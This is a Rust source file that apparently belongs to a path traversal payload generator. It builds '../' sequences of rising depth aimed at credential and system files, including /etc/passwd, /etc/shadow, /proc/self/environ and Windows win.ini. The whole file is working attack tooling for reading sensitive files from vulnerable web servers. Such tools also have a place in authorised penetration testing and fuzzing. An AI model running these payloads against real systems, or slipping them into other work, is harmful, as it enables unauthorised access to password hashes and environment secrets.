use itertools::iproduct;

pub const LINUX_FILES: [&str; 3] = ["/etc/passwd", "/etc/shadow", "/proc/self/environ"];
pub const WINDOWS_FILES: [&str; 2] = ["/windows/win.ini", "/windows/system.ini"];

const TRAVERSAL_SEGMENT: &str = "../";

// operating system family used to pick the default target files
#[derive(Clone, Copy, Debug, PartialEq, Eq, Default)]
pub enum TargetOs {
    #[default]
    Linux,
    Windows,
    All,
}

impl TargetOs {
    /// Only the exact names `linux` and `windows` select a single family.
    /// Anything else, including `Linux`, falls back to `All`.
    pub fn parse(value: &str) -> Self {
        match value {
            "linux" => Self::Linux,
            "windows" => Self::Windows,
            _ => Self::All,
        }
    }

    pub fn label(&self) -> &'static str {
        match self {
            Self::Linux => "linux",
            Self::Windows => "windows",
            Self::All => "all",
        }
    }

    pub fn default_files(&self) -> Vec<String> {
        let files: Vec<&str> = match self {
            Self::Linux => LINUX_FILES.to_vec(),
            Self::Windows => WINDOWS_FILES.to_vec(),
            Self::All => LINUX_FILES.iter().chain(WINDOWS_FILES.iter()).copied().collect(),
        };
        files.into_iter().map(|f| f.to_string()).collect()
    }
}

/// Resolves the list of files to read through traversal.
///
/// A non-empty `custom_file` replaces the OS default list entirely.
pub fn resolve_target_files(os: TargetOs, custom_file: Option<&str>) -> Vec<String> {
    match custom_file.map(|f| f.trim()).filter(|f| !f.is_empty()) {
        Some(file) => vec![file.to_string()],
        None => os.default_files(),
    }
}

/// Builds one payload for `target_file` at `depth`.
pub fn traversal_payload(target_file: &str, depth: usize) -> String {
    let mut out = TRAVERSAL_SEGMENT.repeat(depth);
    out.push_str(target_file.trim_start_matches('/'));
    out
}

/// Builds the ordered payload list: files in list order, depth ascending
/// from 0 to `max_depth` inclusive within each file.
pub fn generate(target_files: &[String], max_depth: usize) -> Vec<String> {
    iproduct!(target_files.iter(), 0..=max_depth)
        .map(|(file, depth)| traversal_payload(file, depth))
        .collect()
}

#[derive(Clone, Debug)]
pub struct Generator {
    target_files: Vec<String>,
    max_depth: usize,
}

impl Generator {
    pub fn new(os: TargetOs, max_depth: usize, custom_file: Option<&str>) -> Self {
        Self {
            target_files: resolve_target_files(os, custom_file),
            max_depth,
        }
    }

    pub fn target_files(&self) -> &[String] {
        &self.target_files
    }

    pub fn max_depth(&self) -> usize {
        self.max_depth
    }

    pub fn payload_count(&self) -> usize {
        (self.max_depth + 1) * self.target_files.len()
    }

    pub fn payloads(&self) -> Vec<String> {
        generate(&self.target_files, self.max_depth)
    }
}
